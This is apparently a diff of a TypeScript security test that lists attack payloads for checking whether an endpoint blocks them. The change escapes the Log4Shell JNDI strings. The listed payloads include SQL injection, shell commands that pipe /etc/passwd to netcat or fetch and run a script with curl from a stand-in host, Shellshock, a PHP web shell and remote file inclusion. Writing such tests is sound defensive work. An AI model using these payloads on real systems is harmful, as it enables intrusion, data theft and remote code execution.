@@ -17,6 +17,8 @@ const form = { 'content-type': 'application/x-www-form-urlencoded' }
 const query = (text: string): Sent => ({ path: `/items?q=${encodeURIComponent(text)}` })
 const header = (name: string, value: string): Sent => ({ path: '/items', headers: { [name]: value } })
 const body = (text: string): Sent => ({ method: 'POST', path: '/items', headers: json, body: JSON.stringify({ title: text }) })
+/** With the sign that would look like a template of ours. */
+const jndi = (text: string): string => text.replaceAll('$.', '$$')
 
 const attacks: [string, Sent][] = [
   ['SQL: a condition that is always true', query("1' OR '1'='1")],
@@ -39,9 +41,9 @@ const attacks: [string, Sent][] = [
   ['a shell command', query('; cat /etc/passwd | nc 192.0.2.1 4444')],
   ['a shell command, substituted', query('$(curl http://192.0.2.1/x.sh|sh)')],
   ['Shellshock', header('user-agent', '() { :; }; /bin/bash -c "id"')],
-  ['Log4Shell', header('user-agent', '${jndi:ldap://192.0.2.1/a}')],
-  ['Log4Shell in a header of any name', header('x-api-version', '${jndi:ldap://192.0.2.1/a}')],
-  ['Log4Shell in JSON', body('${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}')],
+  ['Log4Shell', header('user-agent', jndi('$.{jndi:ldap://192.0.2.1/a}'))],
+  ['Log4Shell in a header of any name', header('x-api-version', jndi('$.{jndi:ldap://192.0.2.1/a}'))],
+  ['Log4Shell in JSON', body(jndi('$.{$.{lower:j}ndi:$.{lower:l}dap://192.0.2.1/a}'))],
   ['JavaScript for Node', query("require('child_process').exec('id')")],
   ['PHP', query('<?php system($_GET["c"]); ?>')],
   ['a file from elsewhere', query('http://192.0.2.1/shell.txt?')],
